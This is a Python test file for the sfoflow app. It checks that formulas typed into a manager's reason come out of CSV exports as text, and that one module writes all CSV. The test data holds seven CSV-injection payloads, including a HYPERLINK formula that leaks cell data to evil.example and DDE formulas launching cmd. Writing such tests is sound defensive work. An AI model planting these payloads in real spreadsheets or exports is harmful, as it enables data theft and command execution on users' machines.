"""Issue 14 item 4: every CSV export is safe in a spreadsheet. A manager's reason typed as a
formula comes out of the sample-decisions export as text (a leading '), through the one writer
every export uses; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from sfoflow import csv_safe
from sfoflow.db import transaction
from sfoflow.services import lifecycle
from sfoflow.workflows import lifecycle as lc
from tests.support.core import auth, make_person
from tests.support.reviews import register

# The seven payloads of the outside probe, each a classic CSV-injection formula.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=cmd|"/C notepad"!A1']


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_managers_reason_is_text_in_the_decisions_export(client, session, payload):
    central, _ = make_person(session, lc.CENTRAL_TEAM)
    manager, _ = make_person(session, lc.MANAGER)
    _, admin_token = make_person(session, lc.ADMIN)
    review = register(session, central, reference="CSV/INJ/1", received_on="2024-05-01")
    assert review.state == lc.ROUTED_TO_HMPPS  # the draw for this reference and date (test sampling key)
    with transaction(session):
        lifecycle.apply_action(session, review, "add_to_sample", manager, version=review.version,
                               data={"reason": payload})
    resp = client.get("/api/v1/sample/decisions?year=2024&format=csv", headers=auth(admin_token))
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True), newline="")))
    reasons = [r["purposive_reason"] for r in rows if r["reference"] == "CSV/INJ/1"]
    assert reasons == ["'" + payload], reasons  # stored as typed, written as text
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), (-3, -3), (2.5, 2.5), ("", ""), (None, None),
])
def test_the_one_writer_neutralises_each_formula_start(value, written):
    assert csv_safe.safe_cell(value) == written


def test_every_csv_download_goes_through_the_one_writer():
    """No other module in sfoflow writes CSV itself."""
    from pathlib import Path

    import sfoflow

    root = Path(sfoflow.__file__).parent
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text())
    assert writers == ["csv_safe.py"]
